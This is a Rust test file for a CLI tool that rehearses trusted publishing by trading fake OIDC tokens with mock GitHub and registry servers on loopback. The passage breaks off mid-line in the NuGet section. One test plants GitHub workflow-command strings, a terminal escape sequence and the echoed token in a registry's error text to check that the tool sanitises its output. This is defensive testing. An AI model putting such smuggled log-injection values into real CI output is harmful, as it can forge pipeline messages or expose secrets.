//! `trustpub rehearse` against local servers that answer as the token service of GitHub and as the registries do.

use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::program::{RELEASE, project};

/// The token for requests to the token service.
const REQUEST_TOKEN: &str = "request-token-4f1c9e7a2b";
/// The signature of every OIDC token.
const SIGNATURE: &str = "c2lnbmF0dXJlLW9mLXRoZS10b2tlbg";
/// The token that every registry issues.
const ISSUED: &str = "issued-by-the-registry-7d20aa91";

/// A request to the server.
#[derive(Debug, Clone)]
struct Received {
    method: String,
    path: String,
    headers: BTreeMap<String, String>,
    body: String,
}

impl Received {
    fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap_or_default()
    }

    fn bearer(&self) -> &str {
        self.headers.get("authorization").and_then(|text| text.strip_prefix("Bearer ")).unwrap_or_default()
    }

    /// The fields of a form.
    fn form(&self) -> BTreeMap<String, String> {
        let fields = self.body.split('&').filter_map(|field| field.split_once('='));
        fields.map(|(name, value)| (name.to_owned(), value.replace("%3A", ":").replace("%2F", "/"))).collect()
    }
}

/// The answer of the server: status, further header fields, body.
struct Reply(u16, Vec<(&'static str, String)>, String);

fn reply(status: u16, body: Value) -> Reply {
    Reply(status, vec![("content-type", "application/json".to_owned())], body.to_string())
}

/// A server on the loopback interface.
struct Server {
    address: String,
    received: Arc<Mutex<Vec<Received>>>,
}

impl Server {
    fn received(&self, path: &str) -> Vec<Received> {
        self.received.lock().unwrap().iter().filter(|request| request.path.starts_with(path)).cloned().collect()
    }
}

/// Serves the token service, with these claims, and a registry.
fn serve(claims: Value, registry: impl Fn(&Received) -> Reply + Send + Sync + 'static) -> Server {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let received = Arc::new(Mutex::new(Vec::new()));
    let (seen, registry) = (Arc::clone(&received), Arc::new(registry));
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let (seen, claims, registry) = (Arc::clone(&seen), claims.clone(), Arc::clone(&registry));
            std::thread::spawn(move || answer(stream, &seen, &claims, registry.as_ref()));
        }
    });
    Server { address, received }
}

fn answer(
    mut stream: TcpStream,
    seen: &Mutex<Vec<Received>>,
    claims: &Value,
    registry: &(dyn Fn(&Received) -> Reply + Send + Sync),
) -> Option<()> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).ok()? == 0 {
            return None;
        }
        let mut words = line.split_whitespace();
        let (method, path) = (words.next()?.to_owned(), words.next()?.to_owned());
        let mut headers = BTreeMap::new();
        loop {
            let mut line = String::new();
            reader.read_line(&mut line).ok()?;
            let Some((name, value)) = line.trim().split_once(": ") else { break };
            headers.insert(name.to_lowercase(), value.to_owned());
        }
        let length = headers.get("content-length").and_then(|text| text.parse().ok()).unwrap_or(0);
        let mut body = vec![0; length];
        reader.read_exact(&mut body).ok()?;
        let request = Received { method, path, headers, body: String::from_utf8_lossy(&body).into_owned() };
        seen.lock().ok()?.push(request.clone());
        let Reply(status, headers, body) =
            if request.path.starts_with("/token-service") { issue(&request, claims) } else { registry(&request) };
        let headers: String = headers.iter().map(|(name, value)| format!("{name}: {value}\r\n")).collect();
        let length = body.len();
        stream
            .write_all(
                format!("HTTP/1.1 {status} Status\r\n{headers}content-length: {length}\r\n\r\n{body}").as_bytes(),
            )
            .ok()?;
    }
}

/// What GitHub's token service does: it issues a token for the audience to jobs that show their own token.
fn issue(request: &Received, claims: &Value) -> Reply {
    if request.bearer() != REQUEST_TOKEN {
        return reply(401, json!({"message": "unauthorized"}));
    }
    let audience = request.path.split("audience=").nth(1).unwrap_or_default();
    let mut claims = claims.clone();
    claims["aud"] = json!(audience.replace("%3A", ":").replace("%2F", "/"));
    claims["iss"] = json!("https://token.actions.githubusercontent.com");
    reply(200, json!({"count": 1, "value": token(&claims)}))
}

fn token(claims: &Value) -> String {
    format!(
        "{}.{}.{SIGNATURE}",
        base64url(r#"{"alg":"RS256","kid":"key-1","typ":"JWT"}"#),
        base64url(&claims.to_string())
    )
}

const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

fn base64url(text: &str) -> String {
    let mut encoded = String::new();
    for part in text.as_bytes().chunks(3) {
        let bits = part.iter().enumerate().fold(0u32, |bits, (at, byte)| bits | u32::from(*byte) << (16 - 8 * at));
        for at in 0..=part.len() {
            encoded.push(char::from(ALPHABET[(bits >> (18 - 6 * at)) as usize & 63]));
        }
    }
    encoded
}

/// The claims of a token that a server got.
fn claims_of(token: &str) -> Option<Value> {
    let payload = token.split('.').nth(1)?;
    let mut bytes = Vec::new();
    let (mut bits, mut count) = (0u32, 0);
    for letter in payload.bytes() {
        let value = ALPHABET.iter().position(|known| *known == letter)?;
        bits = bits << 6 | u32::try_from(value).ok()?;
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count & 255) as u8);
        }
    }
    serde_json::from_slice(&bytes).ok().filter(|_| token.ends_with(SIGNATURE))
}

fn text<'v>(claims: &'v Value, name: &str) -> &'v str {
    claims[name].as_str().unwrap_or_default()
}

/// The file in a claim such as `acme/demo/.github/workflows/release.yml@refs/heads/main`.
fn file<'v>(claims: &'v Value, name: &str) -> &'v str {
    text(claims, name).split('@').next().unwrap_or_default().rsplit('/').next().unwrap_or_default()
}

/// A publisher as registered: owner, repository, workflow, environment (empty for any).
#[derive(Debug, Clone, Copy)]
struct Registered(&'static str, &'static str, &'static str, &'static str);

const FITTING: Registered = Registered("acme", "demo", "release.yml", "pypi");

/// The claims of a run of the rehearsal.
fn claims() -> Value {
    json!({
        "sub": "repo:acme/demo:environment:pypi",
        "repository": "acme/demo",
        "repository_owner": "acme",
        "repository_owner_id": "65",
        "repository_id": "74",
        "workflow_ref": "acme/demo/.github/workflows/release.yml@refs/heads/main",
        "job_workflow_ref": "acme/demo/.github/workflows/release.yml@refs/heads/main",
        "environment": "pypi",
        "event_name": "workflow_dispatch",
        "ref": "refs/heads/main",
        "ref_type": "branch",
        "runner_environment": "github-hosted",
        "run_id": "1",
        "sha": "0000000000000000000000000000000000000000",
        "jti": "a1b2",
    })
}

fn with(name: &str, value: Value) -> Value {
    let mut claims = claims();
    claims[name] = value;
    claims
}

/// A release workflow with a rehearsing job.
fn workflow(steps: &str) -> String {
    format!(
        "on:\n  push:\n    tags: [\"v*\"]\n  workflow_dispatch:\njobs:\n  publish:\n    if: github.event_name != 'workflow_dispatch'\n    runs-on: \
         ubuntu-latest\n    environment: pypi\n    permissions:\n      id-token: write\n    steps:\n{steps}  rehearse:\n    if: github.event_name == \
         'workflow_dispatch'\n    runs-on: ubuntu-latest\n    environment: pypi\n    permissions:\n      id-token: write\n    steps:\n      - run: \
         trustpub rehearse --job publish\n"
    )
}

fn config(registry: &str, package: &str, registered: Registered, more: &str) -> String {
    let Registered(owner, repository, workflow, environment) = registered;
    format!(
        "repository: acme/demo\npublishers:\n  - registry: {registry}\n    package: \"{package}\"\n    owner: {owner}\n    repository: {repository}\n    \
         workflow: {workflow}\n    environment: {environment}\n{more}"
    )
}

/// What the program did.
struct Ran {
    status: Option<i32>,
    out: String,
    err: String,
    json: Value,
}

impl Ran {
    fn outcome(&self) -> &str {
        text(&self.json["rehearsals"][0], "outcome")
    }

    /// The fields of the problems of a kind.
    fn fields(&self, kind: &str) -> Vec<&str> {
        let problems = self.json["rehearsals"][0]["problems"].as_array();
        let problems = problems.into_iter().flatten().filter(|problem| problem["kind"] == kind);
        problems.filter_map(|problem| problem["field"].as_str()).collect()
    }
}

fn rehearse_with(files: &[(&str, &str)], server: &Server, arguments: &[&str], environment: &[(&str, &str)]) -> Ran {
    let project = project(files);
    let formats = ["--format=text", "--format=json=out.json", "--format=sarif=out.sarif", "--format=markdown=out.md"];
    let output = Command::new(env!("CARGO_BIN_EXE_trustpub"))
        .args(["rehearse", "--job", "publish", "--timeout", "1.5", "--loopback", &server.address])
        .args(formats)
        .args(arguments)
        .current_dir(project.path())
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_JOB", "rehearse")
        .env("GITHUB_WORKFLOW_REF", "acme/demo/.github/workflows/release.yml@refs/heads/main")
        .env("ACTIONS_ID_TOKEN_REQUEST_URL", "https://token.example/token-service?api-version=2.0")
        .env("ACTIONS_ID_TOKEN_REQUEST_TOKEN", REQUEST_TOKEN)
        .envs(environment.iter().copied())
        .output()
        .unwrap();
    let out = String::from_utf8(output.stdout).unwrap();
    let all = String::from_utf8(output.stderr).unwrap();
    // The runner removes these lines from the log.
    let err: String =
        all.lines().filter(|line| !line.starts_with("::add-mask::")).map(|line| format!("{line}\n")).collect();
    let mut texts = vec![out.clone(), err.clone()];
    written(project.path(), &mut texts);
    for text in &texts {
        for secret in [REQUEST_TOKEN, SIGNATURE, ISSUED, "eyJ"] {
            assert!(!text.contains(secret), "a token is in the output:\n{text}");
        }
    }
    // Every token that was received is masked, and only once.
    let issued = server.received("/token-service").len();
    let masks: Vec<&str> = all.lines().filter(|line| line.starts_with("::add-mask::")).collect();
    let expected = if output.status.code() == Some(2) { 0 } else { issued };
    assert!(masks.len() >= expected, "{masks:?}");
    let json = std::fs::read_to_string(project.path().join("out.json")).unwrap_or_default();
    Ran { status: output.status.code(), out, err, json: serde_json::from_str(&json).unwrap_or_default() }
}

/// The text of every file below a folder.
fn written(folder: &Path, texts: &mut Vec<String>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            written(&path, texts);
        } else {
            texts.push(std::fs::read_to_string(&path).unwrap());
        }
    }
}

const PYPI: &str = "      - uses: pypa/gh-action-pypi-publish@release/v1\n";

/// The rehearsal of an upload to PyPI whose declared publisher is `declared`.
fn rehearse_pypi(server: &Server, declared: Registered, arguments: &[&str]) -> Ran {
    let (workflow, config) = (workflow(PYPI), config("pypi", "demo", declared, ""));
    let files = [(RELEASE, workflow.as_str()), (".github/trustpub.yaml", config.as_str())];
    rehearse_with(&files, server, &[&["--allow-side-effects"], arguments].concat(), &[])
}

/// PyPI's exchange (warehouse/oidc/views.py and models/github.py).
fn pypi(registered: Registered) -> impl Fn(&Received) -> Reply + Send + Sync {
    move |request| {
        let refused = |code: &str, description: &str| {
            reply(
                422,
                json!({"message": "Token request failed", "errors": [{"code": code, "description": description}]}),
            )
        };
        if (request.method.as_str(), request.path.as_str()) != ("POST", "/_/oidc/mint-token") {
            return Reply(404, Vec::new(), "<html>404</html>".to_owned());
        }
        let body = request.json();
        let Some(claims) = claims_of(text(&body, "token")).filter(|claims| claims["aud"] == "pypi") else {
            return refused("invalid-token", "malformed or invalid token");
        };
        if claims["event_name"] == "pull_request_target" {
            return refused(
                "invalid-publisher",
                "valid token, but no corresponding publisher (Publishing from a workflow invoked via 'pull_request_target' is not supported.)",
            );
        }
        let Registered(owner, repository, workflow, environment) = registered;
        let same = text(&claims, "repository") == format!("{owner}/{repository}")
            && text(&claims, "job_workflow_ref")
                == format!("{owner}/{repository}/.github/workflows/{workflow}@{}", text(&claims, "ref"))
            && (environment.is_empty() || text(&claims, "environment").eq_ignore_ascii_case(environment));
        if !same {
            return refused(
                "invalid-publisher",
                "valid token, but no corresponding publisher (Publisher with matching claims was not found)",
            );
        }
        reply(200, json!({"success": true, "token": ISSUED}))
    }
}

#[test]
fn pypi_accepts_the_token_of_a_fitting_publisher() {
    let server = serve(claims(), pypi(FITTING));
    let ran = rehearse_pypi(&server, FITTING, &[]);
    assert_eq!(ran.status, Some(0), "{}{}", ran.out, ran.err);
    assert_eq!(ran.outcome(), "accepted");
    assert!(ran.out.contains("PyPI, package demo from job `publish`"), "{}", ran.out);
    assert!(ran.out.contains("a release from this job will be trusted"), "{}", ran.out);
    // A release starts in another way.
    let changed = |name: &str| {
        let claims = ran.json["rehearsals"][0]["claims"].as_array().unwrap();
        claims.iter().find(|claim| claim["name"] == name).unwrap()["changes"] == true
    };
    assert!(changed("event_name") && changed("ref") && !changed("environment") && !changed("job_workflow_ref"));
    assert_eq!(server.received("/_/oidc").len(), 1, "the token is exchanged once");
}

#[test]
fn pypi_names_what_differs_from_the_declared_publisher() {
    let cases = [
        ("repository", json!("Acme/demo"), Registered("acme", "demo", "release.yml", "pypi"), "owner"),
        ("repository", json!("acme/other"), FITTING, "repository"),
        ("job_workflow_ref", json!("acme/demo/.github/workflows/publish.yml@refs/heads/main"), FITTING, "workflow"),
        ("environment", json!("release"), FITTING, "environment"),
        ("environment", Value::Null, FITTING, "environment"),
    ];
    for (name, value, registered, field) in cases {
        let server = serve(with(name, value.clone()), pypi(registered));
        let ran = rehearse_pypi(&server, FITTING, &[]);
        assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{name} {value}: {}{}", ran.out, ran.err);
        // The registry compares the owner's case in one part of its code and not in another, so no field is named for it.
        if field != "owner" {
            assert_eq!(ran.fields("rehearsal-refused"), [field], "{}", ran.out);
            assert_eq!(ran.fields("rehearsal-mismatch"), [field], "{}", ran.out);
        }
        assert!(ran.out.contains("Publisher with matching claims was not found"), "{}", ran.out);
        assert!(ran.out.contains("owner, repository, workflow file or environment differ"), "{}", ran.out);
        assert!(ran.out.contains("Environment name:"), "{}", ran.out);
    }
}

#[test]
fn a_publisher_that_is_registered_differently_than_declared_is_said() {
    let server = serve(claims(), pypi(Registered("acme", "demo", "release.yml", "release")));
    let ran = rehearse_pypi(&server, FITTING, &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{}", ran.out);
    assert!(ran.out.contains("the one that is registered differs from the declared one"), "{}", ran.out);
    assert!(ran.out.contains("Environment name: pypi"), "{}", ran.out);
    assert!(ran.out.contains("https://pypi.org/manage/project/demo/settings/publishing/"), "{}", ran.out);
}

#[test]
fn an_exchange_with_side_effects_needs_consent() {
    let server = serve(claims(), pypi(FITTING));
    let (workflow, config) = (workflow(PYPI), config("pypi", "demo", FITTING, ""));
    let files = [(RELEASE, workflow.as_str()), (".github/trustpub.yaml", config.as_str())];
    let ran = rehearse_with(&files, &server, &[], &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(0), "not-made"), "{}{}", ran.out, ran.err);
    assert!(ran.out.contains("--allow-side-effects") && ran.out.contains("pending publisher"), "{}", ran.out);
    assert!(server.received("/_/").is_empty(), "nothing is sent to the registry");
    let asked = server.received("/token-service");
    assert!(asked.iter().all(|request| !request.path.ends_with("audience=pypi")), "{asked:?}");
}

#[test]
fn the_job_that_publishes_is_compared_with_this_one() {
    let other = workflow(PYPI).replace(
        "environment: pypi\n    permissions:\n      id-token: write\n    steps:\n      - run",
        "permissions:\n      id-token: write\n    steps:\n      - run",
    );
    let config = config("pypi", "demo", Registered("acme", "demo", "release.yml", "pypi"), "");
    let files = [(RELEASE, other.as_str()), (".github/trustpub.yaml", config.as_str())];
    let server = serve(with("environment", Value::Null), pypi(Registered("acme", "demo", "release.yml", "")));
    let ran = rehearse_with(&files, &server, &["--allow-side-effects"], &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(1), "accepted"), "{}", ran.out);
    assert_eq!(ran.fields("rehearsal-other-job"), ["environment"], "{}", ran.out);
}

#[test]
fn a_job_without_the_permission_is_named() {
    let other = workflow(PYPI).replacen("      id-token: write\n", "      contents: read\n", 1);
    let config = config("pypi", "demo", FITTING, "");
    let files = [(RELEASE, other.as_str()), (".github/trustpub.yaml", config.as_str())];
    let server = serve(claims(), pypi(FITTING));
    let ran = rehearse_with(&files, &server, &["--allow-side-effects"], &[]);
    assert_eq!(ran.status, Some(1), "{}", ran.out);
    assert_eq!(ran.fields("rehearsal-other-job"), ["id-token"], "{}", ran.out);
}

#[test]
fn no_usable_answer_is_no_refusal() {
    type Answer = Box<dyn Fn(&Received) -> Reply + Send + Sync>;
    let html = || vec![("content-type", "text/html".to_owned())];
    let cases: Vec<(&str, Answer)> = vec![
        ("answers with HTTP 503", Box::new(|_| reply(503, json!({"message": "Service unavailable"})))),
        ("answers with HTTP 429", Box::new(|_| reply(429, json!({"message": "Too many requests"})))),
        (
            "sends no token in its answer (HTTP 200)",
            Box::new(move |_| Reply(200, html(), "<html>hello</html>".to_owned())),
        ),
        ("sends no token in its answer (HTTP 200)", Box::new(|_| reply(200, json!({"token": 7})))),
        ("sends no token in its answer (HTTP 200)", Box::new(|_| reply(200, json!({"token": ""})))),
        ("and an unknown text: <html>", Box::new(move |_| Reply(403, html(), "<html>blocked</html>".to_owned()))),
        (
            "redirects (HTTP 302)",
            Box::new(|request| {
                assert!(!request.path.starts_with("/elsewhere"), "a redirect is followed");
                Reply(302, vec![("location", "/elsewhere".to_owned())], String::new())
            }),
        ),
        (
            "redirects (HTTP 307)",
            Box::new(|_| Reply(307, vec![("location", "https://example.com/".to_owned())], String::new())),
        ),
        ("sends more than 64 KiB", Box::new(|_| reply(200, json!({"token": "x".repeat(70_000)})))),
        (
            "does not answer within 1.5 seconds",
            Box::new(|_| {
                std::thread::sleep(Duration::from_secs(4));
                reply(200, json!({"token": ISSUED}))
            }),
        ),
    ];
    for (expected, registry) in cases {
        let server = serve(claims(), registry);
        let ran = rehearse_pypi(&server, FITTING, &[]);
        assert_eq!((ran.status, ran.outcome()), (Some(2), "failed"), "{expected}: {}{}", ran.out, ran.err);
        assert!(
            ran.out.contains(&format!("pypi.org {expected}")) || ran.out.contains(expected),
            "{expected}: {}",
            ran.out
        );
        assert_eq!(server.received("/_/").len(), 1, "the token is sent once");
    }
}

#[test]
fn a_registry_cannot_print_a_token_or_a_command() {
    let server = serve(claims(), |request: &Received| {
        let body = request.json();
        let sent = text(&body, "token");
        let description = format!(
            "malformed or invalid token\n::error::x\u{1b}]0;t\u{7} {sent} {} ##[error]y",
            sent.split('.').nth(1).unwrap()
        );
        reply(422, json!({"errors": [{"code": "invalid-token", "description": description}]}))
    });
    let ran = rehearse_pypi(&server, FITTING, &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{}", ran.out);
    assert!(!ran.out.lines().any(|line| line.trim_start().starts_with("::")), "{}", ran.out);
    assert!(!ran.out.contains('\u{1b}') && !ran.out.contains("##[error]") && ran.out.contains("***"), "{}", ran.out);
    assert!(ran.out.contains("has expired or was requested for another audience"), "{}", ran.out);
}

#[test]
fn a_token_service_that_fails_is_named() {
    for (status, body, expected) in [
        (500, String::new(), "GitHub's token service answers with HTTP 500"),
        (302, String::new(), "GitHub's token service redirects"),
        (200, "{}".to_owned(), "GitHub's token service sends no token"),
        (200, json!({"value": "not a token"}).to_string(), "is not a JSON Web Token"),
    ] {
        let server = serve(claims(), move |_| Reply(status, vec![("location", "/x".to_owned())], body.clone()));
        let (workflow, config) = (workflow(PYPI), config("pypi", "demo", FITTING, ""));
        let files = [(RELEASE, workflow.as_str()), (".github/trustpub.yaml", config.as_str())];
        let other = [("ACTIONS_ID_TOKEN_REQUEST_URL", "https://token.example/broken?x=1")];
        let ran = rehearse_with(&files, &server, &["--allow-side-effects"], &other);
        assert_eq!(ran.status, Some(2), "{}{}", ran.out, ran.err);
        assert!(ran.err.contains(expected), "{expected}: {}", ran.err);
    }
}

#[test]
fn outside_of_a_job_or_without_the_permission_the_message_says_so() {
    let server = serve(claims(), pypi(FITTING));
    for (environment, expected) in [
        ([("GITHUB_ACTIONS", "")], "runs inside a GitHub Actions job"),
        ([("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "")], "give it `permissions: id-token: write`"),
        ([("ACTIONS_ID_TOKEN_REQUEST_URL", "")], "job `rehearse` may not request an OIDC token"),
    ] {
        let ran = rehearse_with(&[(RELEASE, &workflow(PYPI))], &server, &[], &environment);
        assert_eq!(ran.status, Some(2));
        assert!(ran.err.contains(expected), "{}", ran.err);
    }
    assert!(server.received("/").is_empty());
}

#[test]
fn a_wrong_job_or_workflow_is_corrected() {
    let server = serve(claims(), pypi(FITTING));
    let workflow = workflow(PYPI);
    let files = [(RELEASE, workflow.as_str())];
    let ran = rehearse_with(&files, &server, &["--workflow", "relase.yml"], &[]);
    assert!(ran.status == Some(2) && ran.err.contains("did you mean `release.yml`"), "{}", ran.err);
    let ran = rehearse_with(&files, &server, &["--registry", "npm"], &[]);
    assert!(ran.status == Some(2) && ran.err.contains("does not publish to the registry `npm`"), "{}", ran.err);
}

#[test]
fn other_addresses_than_loopback_are_refused() {
    let mut server = serve(claims(), pypi(FITTING));
    server.address = "http://example.com:80".to_owned();
    let ran = rehearse_with(&[(RELEASE, &workflow(PYPI))], &server, &[], &[]);
    assert!(ran.status == Some(2) && ran.err.contains("is not a loopback address"), "{}", ran.err);
}

/// A job that publishes, and a file of the project if the registry needs one.
struct Publishing {
    registry: &'static str,
    package: &'static str,
    steps: &'static str,
    more: &'static str,
    file: Option<(&'static str, &'static str)>,
}

/// The registered publisher of all registries but PyPI.
const RELEASED: Registered = Registered("acme", "demo", "release.yml", "release");

impl Publishing {
    /// Rehearses with the environment `release`, whose name refers to no registry.
    fn rehearse(&self, server: &Server, arguments: &[&str]) -> Ran {
        let workflow = workflow(self.steps).replace("environment: pypi", "environment: release");
        let config = if self.registry == "mcp" {
            "repository: acme/demo\n".to_owned()
        } else {
            config(self.registry, self.package, RELEASED, self.more)
        };
        let mut files = vec![(RELEASE, workflow.as_str()), (".github/trustpub.yaml", config.as_str())];
        files.extend(self.file);
        rehearse_with(&files, server, arguments, &[])
    }

    fn accepted(&self, registry: impl Fn(&Received) -> Reply + Send + Sync + 'static) -> (Server, Ran) {
        let server = serve(with("environment", json!("release")), registry);
        let ran = self.rehearse(&server, &[]);
        assert_eq!((ran.status, ran.outcome()), (Some(0), "accepted"), "{}: {}{}", self.registry, ran.out, ran.err);
        assert!(ran.out.contains("a release from this job will be trusted"), "{}", ran.out);
        (server, ran)
    }

    /// The registry refuses a token with another claim, with this text. `field` is what the report names.
    fn refused(
        &self,
        registry: impl Fn(&Received) -> Reply + Send + Sync + 'static,
        (name, value): (&str, Value),
        (field, shown): (&str, &str),
    ) {
        let mut claims = with("environment", json!("release"));
        claims[name] = value.clone();
        let server = serve(claims, registry);
        let ran = self.rehearse(&server, &[]);
        let case = format!("{} {name} {value}: {}{}", self.registry, ran.out, ran.err);
        assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{case}");
        assert!(ran.out.contains(shown), "{case}");
        assert_eq!(ran.fields("rehearsal-refused"), [field], "{case}");
    }
}

/// Whether a publisher accepts claims, with the file of one of the two workflow claims.
fn fits(claims: &Value, registered: Registered, workflow_claim: &str, ignore_case: bool) -> bool {
    let Registered(owner, repository, workflow, environment) = registered;
    let same = |left: &str, right: &str| if ignore_case { left.eq_ignore_ascii_case(right) } else { left == right };
    same(text(claims, "repository"), &format!("{owner}/{repository}"))
        && file(claims, workflow_claim) == workflow
        && (environment.is_empty() || same(text(claims, "environment"), environment))
}

const NPM: Publishing =
    Publishing { registry: "npm", package: "@acme/demo", steps: "      - run: npm publish\n", more: "", file: None };

/// npm's exchange, as its client and documentation describe it.
fn npm(request: &Received) -> Reply {
    assert_eq!(request.path, "/-/npm/v1/oidc/token/exchange/package/@acme%2Fdemo");
    assert_eq!((request.method.as_str(), request.body.as_str()), ("POST", ""));
    let claims = claims_of(request.bearer()).filter(|claims| claims["aud"] == "npm:registry.npmjs.org");
    match claims {
        None => reply(401, json!({"message": "OIDC token exchange error - unauthorized"})),
        Some(claims) if fits(&claims, RELEASED, "workflow_ref", false) => reply(201, json!({"token": ISSUED})),
        Some(_) => reply(404, json!({"message": "OIDC token exchange error - package not found"})),
    }
}

#[test]
fn npm_exchanges_a_token_for_a_package() {
    NPM.accepted(npm);
    let text = "OIDC token exchange error - package not found";
    NPM.refused(npm, ("environment", json!("Release-2")), ("environment", text));
    NPM.refused(npm, ("repository", json!("other/demo")), ("owner", text));
    NPM.refused(
        npm,
        ("workflow_ref", json!("acme/demo/.github/workflows/other.yml@refs/heads/main")),
        ("workflow", text),
    );
}

#[test]
fn an_unknown_package_must_be_named() {
    let server = serve(claims(), npm);
    let workflow = workflow(NPM.steps);
    let ran = rehearse_with(&[(RELEASE, workflow.as_str())], &server, &[], &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(2), "failed"), "{}{}", ran.out, ran.err);
    assert!(ran.out.contains("name it with `--package`"), "{}", ran.out);
    assert!(server.received("/-/").is_empty());
}

const CRATES_IO: Publishing = Publishing {
    registry: "crates-io",
    package: "demo",
    steps: "      - uses: rust-lang/crates-io-auth-action@v1\n        id: auth\n      - run: cargo publish\n        env:\n          \
            CARGO_REGISTRY_TOKEN: ${{ steps.auth.outputs.token }}\n",
    more: "",
    file: None,
};

/// The exchange of crates.io (controllers/trustpub/tokens/exchange/mod.rs) and its revocation.
fn crates_io(request: &Received) -> Reply {
    let refused = |detail: String| reply(400, json!({"errors": [{"detail": detail}]}));
    assert!(request.headers["user-agent"].starts_with("trustpub/"), "crates.io refuses requests without a user agent");
    assert_eq!(request.path, "/api/v1/trusted_publishing/tokens");
    if request.method == "DELETE" {
        return if request.bearer() == ISSUED {
            Reply(204, Vec::new(), String::new())
        } else {
            refused("Invalid".to_owned())
        };
    }
    let body = request.json();
    let Some(claims) = claims_of(text(&body, "jwt")).filter(|claims| claims["aud"] == "crates.io") else {
        return refused("Failed to decode JWT".to_owned());
    };
    let event = text(&claims, "event_name");
    if ["pull_request_target", "workflow_run"].contains(&event) {
        return refused(format!(
            "Trusted Publishing does not support the `{event}` event trigger due to security concerns. Please use a different trigger such as \
             `push`, `release`, or `workflow_dispatch`."
        ));
    }
    let repository = text(&claims, "repository");
    if !repository.eq_ignore_ascii_case("acme/demo") {
        return refused(format!("No Trusted Publishing config found for repository `{repository}`."));
    }
    let about = format!("The Trusted Publishing config for repository `{repository}`");
    if text(&claims, "repository_owner_id") != "65" {
        return refused(format!(
            "{about} does not match the repository owner ID (66) in the JWT. Expected owner IDs: 65."
        ));
    }
    let workflow = file(&claims, "workflow_ref");
    if workflow != "release.yml" {
        return refused(format!(
            "{about} does not match the workflow filename `{workflow}` in the JWT. Expected workflow filenames: `release.yml`"
        ));
    }
    match claims["environment"].as_str() {
        None => refused(format!(
            "{about} requires an environment, but the JWT does not specify one. Expected environments: `release`"
        )),
        Some(name) if !name.eq_ignore_ascii_case("release") => refused(format!(
            "{about} does not match the environment `{name}` in the JWT. Expected environments: `release`"
        )),
        Some(_) => reply(200, json!({"token": ISSUED})),
    }
}

#[test]
fn crates_io_says_what_differs_and_its_token_is_revoked() {
    let (server, ran) = CRATES_IO.accepted(crates_io);
    assert!(ran.out.contains("the registry's token was revoked"), "{}", ran.out);
    assert_eq!(server.received("/api").iter().filter(|request| request.method == "DELETE").count(), 1);
    let other = json!("acme/demo/.github/workflows/other.yml@refs/heads/main");
    CRATES_IO.refused(crates_io, ("workflow_ref", other), ("workflow", "Expected workflow filenames: `release.yml`"));
    CRATES_IO.refused(
        crates_io,
        ("environment", json!("staging")),
        ("environment", "does not match the environment `staging`"),
    );
    CRATES_IO.refused(crates_io, ("environment", Value::Null), ("environment", "requires an environment"));
    CRATES_IO.refused(
        crates_io,
        ("repository", json!("acme/other")),
        ("repository", "No Trusted Publishing config found"),
    );
}

#[test]
fn a_refusal_that_no_claim_explains_has_its_cause() {
    for (name, value, cause) in [
        ("repository_owner_id", json!("66"), "the repository was transferred"),
        ("event_name", json!("workflow_run"), "does not support the `workflow_run` event"),
    ] {
        let mut claims = with("environment", json!("release"));
        claims[name] = value;
        let server = serve(claims, crates_io);
        let ran = CRATES_IO.rehearse(&server, &[]);
        assert_eq!((ran.status, ran.outcome()), (Some(1), "refused"), "{}", ran.out);
        assert!(ran.out.contains(cause), "{}", ran.out);
    }
}

#[test]
fn a_token_that_cannot_be_revoked_is_said() {
    let server = serve(with("environment", json!("release")), |request: &Received| match request.method.as_str() {
        "DELETE" => reply(500, json!({})),
        _ => crates_io(request),
    });
    let ran = CRATES_IO.rehearse(&server, &[]);
    assert_eq!((ran.status, ran.outcome()), (Some(0), "accepted"), "{}", ran.out);
    assert!(ran.out.contains("could not be revoked (HTTP 500)"), "{}", ran.out);
}

const RUBYGEMS: Publishing = Publishing {
    registry: "rubygems",
    package: "demo",
    steps: "      - uses: rubygems/configure-rubygems-credentials@v2.1.0\n      - run: gem push demo.gem\n",
    more: "",
    file: None,
};

/// RubyGems' exchange (trusted_publisher_controller.rb and github_action.rb): it gives no reason.
fn rubygems(request: &Received) -> Reply {
    assert_eq!(request.path, "/api/v1/oidc/trusted_publisher/exchange_token");
    let body = request.json();
    match claims_of(text(&body, "jwt")) {
        None => reply(400, json!({"error": "Bad Request"})),
        Some(claims) if claims["aud"] == "rubygems.org" && fits(&claims, RELEASED, "job_workflow_ref", false) => {
            reply(201, json!({"rubygems_api_key": ISSUED, "name": "GitHub Actions", "scopes": ["push_rubygem"]}))
        }
        Some(_) => Reply(404, vec![("content-type", "text/plain".to_owned())], "not found".to_owned()),
    }
}

#[test]
fn rubygems_gives_no_reason_so_the_declared_publisher_decides() {
    RUBYGEMS.accepted(rubygems);
    let text = "No trusted publisher configured for this workflow found on https://rubygems.org";
    RUBYGEMS.refused(rubygems, ("environment", json!("other")), ("environment", text));
    RUBYGEMS.refused(rubygems, ("repository", json!("acme/other")), ("repository", text));
    let other = json!("acme/demo/.github/workflows/other.yml@refs/heads/main");
    RUBYGEMS.refused(rubygems, ("job_workflow_ref", other), ("workflow", text));
}

const NUGET: Publishing = Publishing {
    registry: "nuget",
    package: "Demo",
    steps: "      - uses: NuGet/login@v1\n        id: login\n        with:\n          user: acme-bot\n      - run: dotnet nuget push *.nupkg --source \
